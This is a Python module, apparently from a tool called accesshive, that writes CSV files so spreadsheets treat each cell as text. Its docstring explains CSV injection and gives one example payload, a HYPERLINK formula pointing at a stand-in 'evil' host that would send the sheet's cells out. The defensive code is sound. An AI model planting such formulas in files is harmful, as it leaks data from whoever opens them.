"""Every CSV accesshive writes, written so that a spreadsheet shows it and runs nothing.

Why: a task list is opened in a spreadsheet by a source's owner, and its cells hold
values from the repository and the targets (an identity's name, an account, a reason).
A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before one) is read as a formula: ``=HYPERLINK("http://evil/?"&A1)``
in a given name would send the sheet's cells away. As OWASP advises ("CSV Injection"),
such a cell is prefixed with a single quote, which makes spreadsheets take it as text;
the csv module quotes what needs quoting. The value is otherwise unchanged, so a reader
sees exactly what accesshive holds, after that quote."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a cell must not begin with (OWASP's list)."""


def safe_cell(value: object) -> str:
    """``value`` as a cell's text: None is empty, a would-be formula begins with ``'``."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The CSV document of ``header`` and ``rows``, every cell through ``safe_cell``.

    Lines end with ``\n``; a row with a carriage return in a cell is written with every
    cell quoted, since the csv module quotes only for the line terminator it writes, and
    a bare ``\r`` would end the row early for many readers."""
    out = io.StringIO()
    plain = csv.writer(out, lineterminator="\n")
    quoted = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    plain.writerow([safe_cell(h) for h in header])
    for row in rows:
        cells = [safe_cell(v) for v in row]
        (quoted if any("\r" in c for c in cells) else plain).writerow(cells)
    return out.getvalue()
